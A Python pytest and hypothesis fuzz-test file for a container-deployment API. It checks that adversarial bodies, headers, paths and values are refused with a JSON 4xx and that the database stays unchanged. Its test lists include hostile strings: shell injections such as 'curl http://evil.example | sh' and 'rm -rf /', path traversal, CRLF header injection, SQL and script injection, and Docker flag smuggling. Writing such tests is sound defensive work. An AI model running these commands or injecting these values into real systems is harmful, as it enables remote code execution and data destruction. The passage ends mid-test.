"""Bad input against every function, through the functions-framework app, the real database and
a loopback DTMA stand-in.

The property, for every function: whatever arrives (random and adversarial JSON, near-valid bodies
with one field broken, raw bytes that are not UTF-8 or not JSON, NaN/Infinity, duplicate keys,
deep nesting, wrong content types, empty and oversize bodies, odd methods and paths, odd
Authorization headers), the answer is either a documented success or a 4xx in the project's one
error shape `{"error": {"code", "message", "details"}}`: never a 5xx, never HTML or a traceback,
and a refused request leaves every table exactly as it was (a content digest of every table in
`public` and `auth`, events included, taken before and after).

The apps are built once per module (building one re-imports its main.py); the rows they act on
are made per test, and hypothesis runs its examples against them (a refused example changes
nothing, which is the point). Examples are bounded so the file runs in seconds.

Also here: explicit tables of container names, image references, env names and ports that would
be dangerous on a droplet, each refused before anything is recorded and before any DTMA call.
"""

from __future__ import annotations

import copy
import io
import json
import time
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import psycopg
import pytest
from flask.testing import FlaskClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.conftest import JWT_SECRET
from tests.factories import Factory, Toolbox
from tests.helpers import DEPLOY, FUNCTIONS, HEARTBEAT, MANAGE, STATUS, SWEEP, base_env, build_clients, settle, snapshot
from tests.jwt_helpers import mint_hs256

BODY_FUNCTIONS = (DEPLOY, MANAGE, STATUS, HEARTBEAT)
MAX_BODY = 1_048_576

# derandomize: the same examples on every run, so a red CI run is reproducible (the adversarial
# lists below carry the known-nasty values; the random part widens around them).
FUZZ = settings(max_examples=60, deadline=None, database=None, derandomize=True,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
FUZZ_SMALL = settings(FUZZ, max_examples=30)


# --- apps, built once ----------------------------------------------------------------------------





@pytest.fixture(scope="module")
def clients(database_url: str) -> dict[str, FlaskClient]:
    return build_clients(base_env(database_url))


# --- the database, before and after --------------------------------------------------------------



def assert_error_shape(response: Any) -> dict[str, Any]:
    """The one error shape, as JSON, with no traceback or HTML anywhere."""
    text = response.get_data(as_text=True)
    assert response.mimetype == "application/json", (response.status_code, response.mimetype, text[:300])
    assert "Traceback" not in text and "<html" not in text.lower() and 'File "' not in text
    body = json.loads(text)
    assert isinstance(body, dict) and set(body) == {"error"}, body
    error = body["error"]
    assert set(error) == {"code", "message", "details"}, error
    assert isinstance(error["code"], str) and error["code"]
    assert isinstance(error["message"], str) and error["message"]
    assert isinstance(error["details"], dict)
    return error


def assert_no_injected_header(response: Any) -> None:
    assert "X-Injected" not in response.headers
    for name, value in response.headers.items():
        assert "\r" not in value and "\n" not in value, (name, value)


def check(response: Any, conn: psycopg.Connection, before: dict[str, tuple[int, str]],
          success: tuple[int, ...] = ()) -> None:
    """The property: a documented success, or a 4xx in the error shape with the database unchanged."""
    assert_no_injected_header(response)
    status = response.status_code
    if status in success:
        return
    assert 400 <= status < 500, (status, response.get_data(as_text=True)[:500])
    if response.request.method != "HEAD":
        assert_error_shape(response)
    assert snapshot(conn) == before, f"a refused request ({status}) changed the database"


# --- the rows the requests act on ----------------------------------------------------------------

@dataclass
class World:
    owner: str
    stranger: str
    box: Toolbox
    agent: Any
    running: str
    stopped: str
    owner_auth: dict[str, str]
    toolbox_auth: dict[str, str]

    def headers_for(self, function: str) -> dict[str, str]:
        return self.toolbox_auth if function == HEARTBEAT else self.owner_auth

    def dtma_calls(self) -> list[tuple[str, str]]:
        return [(r.method, r.path) for r in self.agent.requests]


@pytest.fixture
def world(factory: Factory, toolbox_agent: Any) -> World:
    owner, stranger = factory.user(), factory.user()
    box, agent = toolbox_agent(owner)
    running = factory.instance(box, status="running", name="srv-running")
    stopped = factory.instance(box, status="stopped", name="srv-stopped")
    return World(owner, stranger, box, agent, running, stopped,
                 {"Authorization": f"Bearer {mint_hs256(JWT_SECRET, sub=owner)}"},
                 {"Authorization": f"Bearer {box.token}"})


def valid_deploy(world: World) -> dict[str, Any]:
    return {"toolbox_id": world.box.id, "name": "fuzz-srv", "image": "mcp/github:latest",
            "transport": "streamable_http", "container_port": 8080, "endpoint_path": "/mcp",
            "env": {"GITHUB_TOKEN": "ghp_value"}, "capabilities": ["tools"]}


def valid_beat(world: World) -> dict[str, Any]:
    return {"dtma_version": "0.1.0", "system_status": {"cpu_load_percent": 1.5},
            "boot_id": "boot-1", "seq": 1,
            "tool_statuses": [
                {"id": "c" * 64, "names": ["/srv-running"], "image": "mcp/github:latest", "image_id": "sha256:ab",
                 "command": "run", "created": int(time.time()), "state": "running", "status": "Up 2 minutes",
                 "ports": [{"ip": "0.0.0.0", "private_port": 8080, "public_port": 49152, "type": "tcp"}]},
                {"account_tool_instance_id": world.stopped, "status_on_toolbox": "stopped",
                 "instance_name_on_toolbox": "srv-stopped", "runtime_details": {"k": "v"}},
            ]}


# --- strategies ------------------------------------------------------------------------------------

ADVERSARIAL = [
    "", " ", "\x00", "a\x00b", "\ud800", "x\udfffy", "\r\n", "x\r\nX-Injected: 1", "X-Injected: 1",
    "$(reboot)", "`id`", "; rm -rf /", "a|sh", "&& curl http://evil.example | sh", "../../etc/passwd", "..",
    "/", "%00", "%0d%0aX-Injected:%201", "{0}", "{name}", "{}", "%s%s%n", "\u202e", "\ufeff", "null", "true",
    "-1", "1e309", "NaN", "<script>alert(1)</script>", "' or 1=1 --", "\\", "\U0001f642", "a" * 70,
    "a" * 5000, "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "------------------------------------", "2020-01-01T00:00:00+20:00", "eyJhbGciOiJub25lIn0.e30.",
]
strings = st.one_of(st.sampled_from(ADVERSARIAL), st.text(max_size=60))
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.integers(min_value=-(2**80), max_value=2**80),
                    st.floats(allow_nan=False, allow_infinity=False), strings)
json_values = st.recursive(scalars, lambda children: st.lists(children, max_size=4)
                           | st.dictionaries(strings, children, max_size=4), max_leaves=12)


def _slots(value: Any) -> list[tuple[Any, Any]]:
    """Every (container, key) inside a JSON value, containers first."""
    found: list[tuple[Any, Any]] = []
    stack = [value]
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            found.extend((item, key) for key in item)
            stack.extend(item.values())
        elif isinstance(item, list):
            found.extend((item, index) for index in range(len(item)))
            stack.extend(item)
    return found


@st.composite
def mutated(draw: st.DrawFn, base: dict[str, Any], fields: tuple[str, ...] = ()) -> dict[str, Any]:
    """`base` with one to three things broken: a value replaced, a key removed, a key added."""
    body = copy.deepcopy(base)
    for _ in range(draw(st.integers(1, 3))):
        slots = _slots(body)
        how = draw(st.sampled_from(["replace", "replace", "replace", "delete", "add"]))
        if not slots or how == "add":
            containers = [body] + [c[k] for c, k in slots if isinstance(c[k], dict)]
            container = draw(st.sampled_from(containers))
            container[draw(st.sampled_from(fields) if fields and draw(st.booleans()) else strings)] = \
                draw(json_values)
            continue
        container, key = draw(st.sampled_from(slots))
        if how == "delete" and isinstance(container, dict):
            del container[key]
        else:
            container[key] = draw(json_values)
    return body


DEPLOY_FIELDS = ("toolbox_id", "toolboxId", "accountToolEnvironmentId", "name", "instanceNameOnToolbox", "image",
                 "dockerImage", "dockerImageUrl", "transport", "mcpTransport", "container_port", "containerPort",
                 "mcpPort", "host_port", "hostPort", "endpoint_path", "mcpEndpoint", "env", "environmentVariables",
                 "capabilities", "catalog_id", "toolCatalogId")
STATUS_FIELDS = ("id", "toolbox_id", "status", "limit", "cursor", "refresh")
BEAT_FIELDS = ("dtma_version", "system_status", "tool_statuses", "boot_id", "seq", "names", "state", "status",
               "ports", "account_tool_instance_id", "status_on_toolbox", "error", "runtime_details")


def dumps(body: Any) -> str:
    """JSON as a client would send it; lone surrogates travel as \\ud800 escapes."""
    return json.dumps(body, ensure_ascii=True)


def post_json(client: FlaskClient, body: Any, headers: dict[str, str], path: str = "/") -> Any:
    return client.post(path, data=dumps(body), headers=headers, content_type="application/json")


def url_quote(text: str) -> str:
    """Percent-encode anything, lone surrogates included (they arrive as invalid UTF-8 bytes)."""
    return quote(text, safe="", errors="surrogatepass")


def as_header(value: str) -> str:
    """What a WSGI server hands the app for a header sent as UTF-8 bytes (latin-1 decoded), with
    line breaks folded: a server splits a header at CR/LF before the app sees it."""
    value = value.replace("\r", " ").replace("\n", " ")
    try:
        value.encode("latin-1")
    except UnicodeEncodeError:
        value = value.encode("utf-8", errors="surrogatepass").decode("latin-1")
    return value


# --- random JSON, to every function that reads a body ---------------------------------------------

@pytest.mark.parametrize("function", BODY_FUNCTIONS)
@FUZZ
@given(body=json_values)
def test_random_json_bodies(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                            function: str, body: Any) -> None:
    before = snapshot(pg)
    response = post_json(clients[function], body, world.headers_for(function))
    # mcp_status reads with whatever filters a valid body names; a heartbeat may be valid by chance.
    check(response, pg, before, success={STATUS: (200,), HEARTBEAT: (204,)}.get(function, ()))
    if function in (DEPLOY, MANAGE) or response.status_code >= 400:
        assert world.dtma_calls() == []


@pytest.mark.parametrize("function", (DEPLOY, MANAGE, STATUS))
@FUZZ
@given(body=st.dictionaries(st.sampled_from(DEPLOY_FIELDS + STATUS_FIELDS + ("instance_id", "action")),
                            json_values, max_size=6))
def test_random_values_under_real_field_names(clients: dict[str, FlaskClient], world: World,
                                              pg: psycopg.Connection, function: str, body: Any) -> None:
    before = snapshot(pg)
    response = post_json(clients[function], body, world.owner_auth)
    check(response, pg, before, success=(200,) if function == STATUS else ())
    assert world.dtma_calls() == []


# --- near-valid bodies: one field broken -----------------------------------------------------------

@FUZZ
@given(data=st.data())
def test_near_valid_deploys(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                            data: st.DataObject) -> None:
    body = data.draw(mutated(valid_deploy(world), DEPLOY_FIELDS))
    before, calls = snapshot(pg), len(world.dtma_calls())
    response = post_json(clients[DEPLOY], body, world.owner_auth)
    # A mutation can leave a valid request (e.g. another free host port): then it deploys, once
    # (the name is fixed, so later valid ones are 409s that must change nothing).
    check(response, pg, before, success=(202,))
    settle()  # a valid one's command runs now, not during the next example
    if response.status_code >= 400:
        assert len(world.dtma_calls()) == calls


@FUZZ
@given(data=st.data())
def test_near_valid_heartbeats(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                               data: st.DataObject) -> None:
    body = data.draw(mutated(valid_beat(world), BEAT_FIELDS))
    before = snapshot(pg)
    check(post_json(clients[HEARTBEAT], body, world.toolbox_auth, "/heartbeat"), pg, before, success=(204,))


@FUZZ_SMALL
@given(data=st.data())
def test_near_valid_manage_and_status_bodies(clients: dict[str, FlaskClient], world: World,
                                             pg: psycopg.Connection, data: st.DataObject) -> None:
    manage = data.draw(mutated({"instance_id": world.stopped, "action": "start"}, ("instance_id", "action", "id")))
    before = snapshot(pg)
    response = post_json(clients[MANAGE], manage, world.owner_auth)
    check(response, pg, before, success=(200, 202))
    status = data.draw(mutated({"toolbox_id": world.box.id, "status": "running", "limit": 5, "refresh": False},
                               STATUS_FIELDS))
    before = snapshot(pg)
    check(post_json(clients[STATUS], status, world.owner_auth), pg, before, success=(200,))


@FUZZ
@given(params=st.dictionaries(st.sampled_from((*STATUS_FIELDS, "forceFunctionRegion")),
                              st.one_of(strings, st.lists(strings, min_size=1, max_size=3)), max_size=5),
       path=st.one_of(st.just("/"), strings.map(lambda s: "/" + url_quote(s))))
def test_status_query_strings_and_paths(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                                        params: dict[str, Any], path: str) -> None:
    pairs = [(k, v) for k, values in params.items() for v in (values if isinstance(values, list) else [values])]
    query = "&".join(f"{url_quote(k)}={url_quote(v)}" for k, v in pairs)
    before = snapshot(pg)
    response = clients[STATUS].get(f"{path}?{query}", headers=world.owner_auth)
    check(response, pg, before, success=(200,))


TIMESTAMPS = ["2020-01-01T00:00:00+00:00", "2020-01-01T00:00:00+20:00", "9999-12-31T23:59:59-23:59", "0001-01-01",
              "2020-01-01", "2020-02-30", "2020-01-01T25:00:00", "20200101", "2020-01-01T00:00:00.123456789"]
UUIDS = ["00000000-0000-0000-0000-000000000000", "{00000000-0000-0000-0000-000000000000}",
         "urn:uuid:00000000-0000-0000-0000-000000000000", "0" * 32, "not-a-uuid"]


@pytest.mark.parametrize("cursor", [
    {"created_at": TIMESTAMPS[0], "id": 5}, {"created_at": TIMESTAMPS[0], "id": ["x"]},
    {"created_at": TIMESTAMPS[0], "id": None}, {"created_at": 5, "id": UUIDS[0]}, [TIMESTAMPS[0], UUIDS[0]],
    *({"created_at": t, "id": u} for t in TIMESTAMPS for u in UUIDS[:1]),
])
def test_forged_cursor_examples(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                                cursor: Any) -> None:
    import base64

    token = base64.urlsafe_b64encode(dumps(cursor).encode()).decode().rstrip("=")
    before = snapshot(pg)
    check(clients[STATUS].get("/", query_string={"cursor": token}, headers=world.owner_auth), pg, before,
          success=(200,))


@FUZZ_SMALL
@given(cursor=st.fixed_dictionaries({"created_at": st.one_of(st.sampled_from(TIMESTAMPS), json_values),
                                     "id": st.one_of(st.sampled_from(UUIDS), json_values)}))
def test_forged_cursors(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                        cursor: dict[str, Any]) -> None:
    """A cursor is opaque, but nothing stops a client from building one."""
    import base64

    token = base64.urlsafe_b64encode(dumps(cursor).encode()).decode().rstrip("=")
    before = snapshot(pg)
    check(clients[STATUS].get("/", query_string={"cursor": token}, headers=world.owner_auth), pg, before,
          success=(200,))


# --- raw bytes, content types, sizes --------------------------------------------------------------

RAW_BODIES = {
    "invalid-utf8": b'{"name": "\xff\xfe\xc3\x28"}',
    "latin1": '{"name": "caf\xe9"}'.encode("latin-1"),
    "utf16": '{"name": "x"}'.encode("utf-16"),
    "bom": b"\xef\xbb\xbf{}",
    "nan": b'{"container_port": NaN}',
    "infinity": b'{"container_port": Infinity, "seq": -Infinity}',
    "duplicate-keys": b'{"name": "a", "name": "b", "toolbox_id": "x"}',
    "nested-duplicate": b'{"system_status": {"a": 1, "a": 2}}',
    "deep-array": b"[" * 5000 + b"]" * 5000,
    "deep-object": b'{"a":' * 200 + b"1" + b"}" * 200,
    "deep-unclosed": b"[" * 100_000,
    "huge-int": b'{"seq": ' + b"9" * 5000 + b"}",
    "huge-float": b'{"container_port": 1e999999}',
    "truncated": b'{"name": "abc',
    "trailing-garbage": b'{"name": "abc"} xyz',
    "two-documents": b"{}{}",
    "bare-string": b'"hello"',
    "bare-number": b"42",
    "null": b"null",
    "array": b"[1, 2, 3]",
    "nul-escape": b'{"name": "\\u0000", "system_status": {"\\u0000": "\\u0000"}}',
    "lone-surrogate": b'{"name": "\\ud800", "dtma_version": "\\udfff"}',
    "control-chars": b'{"name": "a\x01b"}',
    "whitespace-only": b"   \n\t  ",
    "empty": b"",
    "binary": bytes(range(256)),
    "oversize": b'{"x": "' + b"a" * (MAX_BODY + 10) + b'"}',
    "just-over": b" " * (MAX_BODY - 1) + b"{}",
}
CONTENT_TYPES = ["application/json", "application/json; charset=utf-8", "application/json; charset=latin-1",
                 "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=xyz",
                 "application/xml", "application/vnd.api+json", "", "application/json\r\nX-Injected: 1"]


@pytest.mark.parametrize("function", BODY_FUNCTIONS)
@pytest.mark.parametrize("name", sorted(RAW_BODIES))
def test_adversarial_raw_bodies(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                                function: str, name: str) -> None:
    before = snapshot(pg)
    raw = RAW_BODIES[name]
    response = clients[function].post("/", data=raw, headers=world.headers_for(function),
                                      content_type="application/json")
    # An empty, blank or JSON null body is "no filters" to mcp_status; all else here is refused.
    lenient = function == STATUS and name in ("empty", "whitespace-only", "null")
    check(response, pg, before, success=(200,) if lenient else ())
    if name in ("oversize", "just-over"):
        assert response.status_code == 413 or name == "just-over"
    assert world.dtma_calls() == []


@pytest.mark.parametrize("function", BODY_FUNCTIONS)
@FUZZ_SMALL
@given(raw=st.binary(max_size=300), content_type=st.sampled_from(CONTENT_TYPES))
def test_random_bytes_and_content_types(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                                        function: str, raw: bytes, content_type: str) -> None:
    headers = {**world.headers_for(function)}
    if "\r" not in content_type:
        headers["Content-Type"] = content_type
    before = snapshot(pg)
    response = clients[function].post("/", data=raw, headers=headers)
    check(response, pg, before, success={STATUS: (200,), HEARTBEAT: (204,)}.get(function, ()))
    assert world.dtma_calls() == []


@pytest.mark.parametrize("function", BODY_FUNCTIONS)
def test_valid_json_with_a_wrong_content_type_is_415(clients: dict[str, FlaskClient], world: World,
                                                     pg: psycopg.Connection, function: str) -> None:
    before = snapshot(pg)
    body = valid_beat(world) if function == HEARTBEAT else valid_deploy(world)
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "application/xml"):
        response = clients[function].post("/", data=dumps(body), headers=world.headers_for(function),
                                          content_type=content_type)
        assert response.status_code == 415, (content_type, response.status_code)
        assert assert_error_shape(response)["code"] == "unsupported_media_type"
    assert snapshot(pg) == before and world.dtma_calls() == []


@pytest.mark.parametrize("function", BODY_FUNCTIONS)
def test_oversize_body_is_413_even_when_the_length_is_not_announced(
        clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection, function: str) -> None:
    before = snapshot(pg)
    raw = RAW_BODIES["oversize"]

    for announced in (True, False):
        # Without a Content-Length (a chunked upload), the body is read up to the limit and refused.
        response = clients[function].post(
            "/", input_stream=io.BytesIO(raw), content_length=len(raw) if announced else None,
            headers=world.headers_for(function), content_type="application/json")
        assert response.status_code == 413, response.status_code
        assert assert_error_shape(response)["code"] == "payload_too_large"
    assert snapshot(pg) == before


# --- methods, paths, headers ------------------------------------------------------------------------

METHODS = ["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "TRACE", "PROPFIND", "MKCOL", "FOO", "OPTIONS"]
SUCCESS_BY_METHOD = {
    # (function, method) -> what a well-formed call may answer; everything else is a 4xx.
    (STATUS, "GET"): (200,), (STATUS, "POST"): (200,), (SWEEP, "POST"): (200,),
}
path_segments = st.one_of(strings, st.sampled_from(["heartbeat", "start", "stop", "restart", "remove", "..", ".",
                                                    "functions", "v1", "%2e%2e", "%2F", "index.php"]))


@pytest.mark.parametrize("function", FUNCTIONS)
@FUZZ_SMALL
@given(method=st.sampled_from(METHODS), segments=st.lists(path_segments, max_size=4),
       prefix=st.sampled_from(["", "/functions/v1/{f}", "/{f}"]))
def test_odd_methods_and_paths(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                               function: str, method: str, segments: list[str], prefix: str) -> None:
    path = prefix.format(f=function) + "/" + "/".join(url_quote(s) for s in segments)
    if path.rstrip("/") in ("/robots.txt", "/favicon.ico"):
        path += "x"  # functions-framework's own two routes, see the test below
    before = snapshot(pg)
    response = clients[function].open(path, method=method, headers=world.headers_for(function))
    if "X-Request-Id" not in response.headers:
        # Answered by functions-framework/werkzeug before any function code ran: only for paths
        # its routes cannot take (a newline, which `<path:path>` does not match; repeated slashes,
        # which werkzeug merges with a redirect). Nothing ran, nothing changed, nothing leaked.
        assert "//" in path or "%0A" in path.upper() or "%0D" in path.upper(), (path, response.status_code)
        assert response.status_code < 500 and "Traceback" not in response.get_data(as_text=True)
        if response.status_code >= 400:
            assert_error_shape(response)
        assert snapshot(pg) == before and world.dtma_calls() == []
        return
    if method == "OPTIONS":
        # CORS preflight: answered without credentials, no body; the sweep has no CORS.
        assert response.status_code in (204, 405) and snapshot(pg) == before
        return
    success = SUCCESS_BY_METHOD.get((function, method), ())
    if function == HEARTBEAT and method == "POST":
        success = (204,)  # not in this test: the body is empty, so 400
    check(response, pg, before, success=success)
    if method not in ("POST", "DELETE") or function in (STATUS, SWEEP, HEARTBEAT):
        assert world.dtma_calls() == []


@pytest.mark.parametrize("function", FUNCTIONS)
def test_every_method_but_the_allowed_ones_is_405_json(clients: dict[str, FlaskClient], world: World,
                                                       pg: psycopg.Connection, function: str) -> None:
    allowed = {DEPLOY: {"POST"}, MANAGE: {"POST", "DELETE"}, STATUS: {"GET", "POST"}, SWEEP: {"POST"},
               HEARTBEAT: {"POST"}}[function]
    before = snapshot(pg)
    for method in sorted(set(METHODS) - allowed - {"OPTIONS", "HEAD"}):
        response = clients[function].open("/", method=method, headers=world.headers_for(function))
        assert response.status_code == 405, (method, response.status_code)
        assert assert_error_shape(response)["code"] == "method_not_allowed"
        assert set(response.headers["Allow"].split(", ")) == allowed
    assert snapshot(pg) == before


@pytest.mark.parametrize("function", FUNCTIONS)
def test_functions_frameworks_own_routes_are_json_404s(clients: dict[str, FlaskClient], world: World,
                                                       pg: psycopg.Connection, function: str) -> None:
    """`/robots.txt`, `/favicon.ico` and paths its route cannot take (a CR or LF) are answered by
    functions-framework itself and never reach the function: nothing runs, nothing changes, and
    the answer is the one JSON error shape, not werkzeug's HTML page."""
    before = snapshot(pg)
    for path in ("/robots.txt", "/favicon.ico", "/%0D%0AX-Injected%3A%201/stop"):
        response = clients[function].post(path, headers=world.headers_for(function), json={})
        assert response.status_code == 404
        assert assert_error_shape(response)["code"] == "not_found"
        assert "X-Injected" not in response.headers
    assert snapshot(pg) == before and world.dtma_calls() == []


auth_values = st.one_of(
    strings, st.sampled_from(["Bearer", "Bearer ", "bearer x y", "Basic dXNlcjpwYXNz", "Bearer " + "a" * 20000,
                              "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", "Bearer ..", "Token abc",
                              "Bearer \u00e9\u00e8", "Bearer x\tX-Injected: 1"]),
    strings.map(lambda s: "Bearer " + s))


@pytest.mark.parametrize("function", (DEPLOY, MANAGE, STATUS, HEARTBEAT))
@FUZZ_SMALL
@given(value=auth_values)
def test_odd_authorization_headers_are_401(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                                           function: str, value: str) -> None:
    body = valid_beat(world) if function == HEARTBEAT else {}
    before = snapshot(pg)
    response = post_json(clients[function], body, {"Authorization": as_header(value)})
    check(response, pg, before)
    assert response.status_code == 401, response.status_code
    assert world.dtma_calls() == []


@pytest.mark.parametrize("function", (DEPLOY, MANAGE))
def test_bad_idempotency_keys_are_refused_before_anything_is_recorded(
        clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection, function: str) -> None:
    body = valid_deploy(world) if function == DEPLOY else {"instance_id": world.stopped, "action": "start"}
    before = snapshot(pg)
    for key in ("", "a" * 256, "caf\u00e9", "tab\there"):
        response = post_json(clients[function], body, {**world.owner_auth, "Idempotency-Key": key})
        check(response, pg, before)
        assert assert_error_shape(response)["code"] == "invalid_idempotency_key"
    assert world.dtma_calls() == []


def test_request_ids_from_the_client_are_echoed_only_when_safe(clients: dict[str, FlaskClient], world: World) -> None:
    for value in ("abc-123", "x" * 200, "a b", "a\tX-Injected: 1", "<script>", ""):
        response = clients[STATUS].get("/", headers={**world.owner_auth, "X-Request-Id": value})
        assert response.status_code == 200
        echoed = response.headers["X-Request-Id"]
        assert echoed == value if value == "abc-123" else len(echoed) == 32
        assert_no_injected_header(response)


# --- the sweep ignores bodies by design ---------------------------------------------------------------

@FUZZ_SMALL
@given(raw=st.one_of(st.binary(max_size=200), st.sampled_from(list(RAW_BODIES.values())[:-2])),
       content_type=st.sampled_from(CONTENT_TYPES[:-1]))
def test_sweep_ignores_whatever_body_the_scheduler_sends(clients: dict[str, FlaskClient], world: World,
                                                         pg: psycopg.Connection, raw: bytes, content_type: str) -> None:
    """The sweep is IAM-protected and reads no body: any body is one ordinary sweep (nothing is
    due here, so nothing changes), never an error."""
    # The running server's MCP endpoint was checked just now, so no check is due either.
    pg.execute("insert into mcp_endpoint_probes (account_tool_instance_id, ready, checked_at) values (%s, true, now()) "
               "on conflict (account_tool_instance_id) do update set checked_at = now()", (world.running,))
    before = snapshot(pg)
    response = clients[SWEEP].post("/", data=raw, headers={"Content-Type": content_type})
    assert response.status_code == 200 and response.json["guard_tripped"] is False
    assert snapshot(pg) == before


# --- dangerous values for the droplet: refused before anything is recorded or sent -----------------

DANGEROUS_NAMES = [
    "a;rm -rf /", "$(reboot)", "`id`", "a|sh", "a&&b", "a>b", "a<b", "a'b", 'a"b', "a b", "../etc", "..", ".",
    ".hidden", "-rm", "_x", "a/b", "a\\b", "a\nb", "a\n", "a\r", "a\r\nX-Injected: 1", "X-Injected: 1", "a\x00",
    "\u00e4bc", "a\u202eb", "", "x" * 64, "a*", "a?", "a[0]", "a{b}", "a$b", "a%b", "a#b", "a!b", "a~b", "a,b",
    "a:b", "a=b",
]
DANGEROUS_IMAGES = [
    "mcp/github:latest; curl evil|sh", "mcp/x$(id)", "mcp/x`id`", "../../etc/passwd", "/etc/passwd",
    "mcp/x && rm -rf /", "http://evil.example/x", "https://registry/x", "mcp/x@sha256:short", "mcp/x\n",
    " mcp/x", "mcp/x ", "--privileged", "-v /:/host mcp/x", "mcp/x:tag with space", "mcp/x:-tag", "UPPER/case",
    "mcp//x", "mcp/x/", "mcp/x:", "mcp/x@", "mcp/x:latest\r\nX-Injected: 1", "", "a" * 256, "mcp/x|id",
    "mcp/../x", "mcp/./x", "registry.example:99999999/x",
]
DANGEROUS_ENV_NAMES = ["PATH;id", "A B", "1ABC", "A=B", "A\nB", "A\n", "A\r\nX-Injected", "$A", "-e", "", "A-B",
                       "A.B", "\u00c4", "A\x00", "x" * 129, "A;B=1"]
DANGEROUS_PORTS = [
    ({"host_port": 30000}, "host_port"), ({"host_port": 22}, "host_port"), ({"host_port": 80}, "host_port"),
    ({"host_port": 443}, "host_port"), ({"host_port": 1}, "host_port"), ({"host_port": 0}, "host_port"),
    ({"host_port": -1}, "host_port"), ({"host_port": 65536}, "host_port"), ({"host_port": 2**63}, "host_port"),
    ({"host_port": "30000"}, "host_port"), ({"host_port": 1.5}, "host_port"), ({"host_port": True}, "host_port"),
    ({"container_port": 0}, "container_port"), ({"container_port": 70000}, "container_port"),
    ({"container_port": "8080/udp"}, "container_port"), ({"hostPort": 30000}, "host_port"),
]


def assert_refused_before_anything(response: Any, pg: psycopg.Connection, before: Any, world: World,
                                   field: str) -> None:
    assert response.status_code == 400, (response.status_code, response.get_data(as_text=True)[:300])
    error = assert_error_shape(response)
    assert field in error["message"], error
    assert_no_injected_header(response)
    assert snapshot(pg) == before
    assert world.dtma_calls() == []


@pytest.mark.parametrize("name", DANGEROUS_NAMES)
def test_dangerous_container_names(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                                   name: str) -> None:
    before = snapshot(pg)
    for field in ("name", "instanceNameOnToolbox"):
        body = {k: v for k, v in valid_deploy(world).items() if k != "name"} | {field: name}
        assert_refused_before_anything(post_json(clients[DEPLOY], body, world.owner_auth), pg, before, world, field)


@pytest.mark.parametrize("image", DANGEROUS_IMAGES)
def test_dangerous_image_references(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                                    image: str) -> None:
    before = snapshot(pg)
    response = post_json(clients[DEPLOY], valid_deploy(world) | {"image": image}, world.owner_auth)
    assert_refused_before_anything(response, pg, before, world, "image")


@pytest.mark.parametrize("env_name", DANGEROUS_ENV_NAMES)
def test_dangerous_env_names(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                             env_name: str) -> None:
    before = snapshot(pg)
    response = post_json(clients[DEPLOY], valid_deploy(world) | {"env": {"OK": "1", env_name: "v"}}, world.owner_auth)
    assert_refused_before_anything(response, pg, before, world, "env")


@pytest.mark.parametrize(("override", "field"), DANGEROUS_PORTS, ids=[f"{k}={v}" for (d, _) in DANGEROUS_PORTS
                                                                       for k, v in d.items()])
def test_dangerous_ports(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                         override: dict[str, Any], field: str) -> None:
    before = snapshot(pg)
    response = post_json(clients[DEPLOY], valid_deploy(world) | override, world.owner_auth)
    assert_refused_before_anything(response, pg, before, world, field)


def test_the_toolboxs_own_agent_port_is_refused_whatever_it_is(clients: dict[str, FlaskClient], world: World,
                                                               pg: psycopg.Connection) -> None:
    """The stand-in's DTMA listens on the port recorded on the toolbox row, not 30000: that port
    is refused too (by the SQL, under the toolbox lock), and nothing is recorded or sent."""
    before = snapshot(pg)
    response = post_json(clients[DEPLOY], valid_deploy(world) | {"host_port": world.agent.port}, world.owner_auth)
    assert_refused_before_anything(response, pg, before, world, "host_port")


def test_too_many_or_too_large_env_values(clients: dict[str, FlaskClient], world: World,
                                          pg: psycopg.Connection) -> None:
    before = snapshot(pg)
    for env in ({f"V{n}": "x" for n in range(101)}, {"BIG": "x" * (32 * 1024 + 1)}, {"N": 1}, {"N": None},
                {"N": ["a"]}, ["A=1"], "A=1"):
        response = post_json(clients[DEPLOY], valid_deploy(world) | {"env": env}, world.owner_auth)
        assert_refused_before_anything(response, pg, before, world, "env")


def test_privileged_ports_are_allowed_only_when_configured(database_url: str, world: World,
                                                           pg: psycopg.Connection) -> None:
    allowed = build_clients(base_env(database_url) | {"ALLOW_PRIVILEGED_PORTS": "true"}, (DEPLOY,))[DEPLOY]
    response = post_json(allowed, valid_deploy(world) | {"host_port": 80}, world.owner_auth)
    assert response.status_code == 202, response.json
    settle()
    assert response.json["endpoint"].endswith(":80/mcp")
    # Still never the agent's port, whatever else is allowed.
    before = snapshot(pg)
    calls = len(world.dtma_calls())
    response = post_json(allowed, valid_deploy(world) | {"name": "other", "host_port": 30000}, world.owner_auth)
    assert response.status_code == 400 and snapshot(pg) == before and len(world.dtma_calls()) == calls


def test_header_injection_strings_in_values_stay_values(clients: dict[str, FlaskClient], world: World,
                                                        pg: psycopg.Connection) -> None:
    """An env VALUE may be anything a program reads (it is the user's own container): it travels
    as a JSON string to the DTMA, never into a header, a shell or the database."""
    injected = "x\r\nX-Injected: 1\r\n\r\n$(reboot)`id`;rm -rf /"
    response = post_json(clients[DEPLOY], valid_deploy(world) | {"env": {"EVIL": injected}}, world.owner_auth)
